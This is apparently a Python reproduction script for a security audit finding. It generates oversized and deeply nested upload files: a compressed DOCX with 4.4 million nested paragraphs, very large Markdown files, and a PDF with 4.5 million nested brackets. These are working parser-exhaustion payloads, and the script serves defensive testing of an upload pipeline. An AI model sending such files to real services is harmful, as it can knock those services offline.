"""Writes the hostile uploads of issue 14, finding 4, into the directory
given: python3 hostile-files.py DIR"""
import sys, zipfile, os
out = sys.argv[1]
# DOCX: 4.4 million nested paragraphs, about 71 KB compressed.
n = 4_400_000
xml = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
       + '<w:p>' * n + '<w:r><w:t>x</w:t></w:r>' + '</w:p>' * n + '</w:body></w:document>')
with zipfile.ZipFile(os.path.join(out, 'nested.docx'), 'w', zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr('[Content_Types].xml', '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
    z.writestr('word/document.xml', xml)
# Markdown: a valid 19.8 MB document of sections and sentences.
line = 'Công dân nộp hồ sơ tại Trung tâm phục vụ hành chính công của xã, mang theo căn cước và giấy tờ liên quan số {}.\n'
with open(os.path.join(out, 'huge.md'), 'w', encoding='utf-8') as f:
    f.write('# Hướng dẫn thủ tục rất dài\n\n')
    i, size = 0, 0
    while size < 19_800_000:
        s = ('## Mục {}\n'.format(i) if i % 20 == 0 else '') + line.format(i)
        f.write(s); size += len(s.encode()); i += 1
# Markdown: the largest kind accepted, 1.4 MB and 955 passages.
with open(os.path.join(out, 'max.md'), 'w', encoding='utf-8') as f:
    f.write('# Hướng dẫn thủ tục dài vừa đủ\n\n')
    i, size = 0, 0
    while size < 1_400_000:
        s = ('## Mục {}\n'.format(i) if i % 20 == 0 else '') + line.format(i)
        f.write(s); size += len(s.encode()); i += 1
# PDF: 18 MB, one page whose dictionary holds 4.5 million nested "[" and
# whose content stream as many again (knowledge/upload's nestedPDF).
deep = '[ ' * 4_500_000
content = 'BT /F1 12 Tf 72 700 Td (Hello) Tj ET\n' + deep
objs = ['<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /X ' + deep + '>>',
        '<< /Length {} >>\nstream\n{}\nendstream'.format(len(content), content)]
pdf, offs = '%PDF-1.7\n', []
for i, o in enumerate(objs):
    offs.append(len(pdf))
    pdf += '{} 0 obj\n{}\nendobj\n'.format(i + 1, o)
xref = len(pdf)
pdf += 'xref\n0 {}\n0000000000 65535 f \n'.format(len(objs) + 1) + ''.join('{:010d} 00000 n \n'.format(o) for o in offs)
pdf += 'trailer << /Size {} /Root 1 0 R >>\nstartxref\n{}\n%%EOF\n'.format(len(objs) + 1, xref)
with open(os.path.join(out, 'nested.pdf'), 'w', encoding='ascii') as f:
    f.write(pdf)
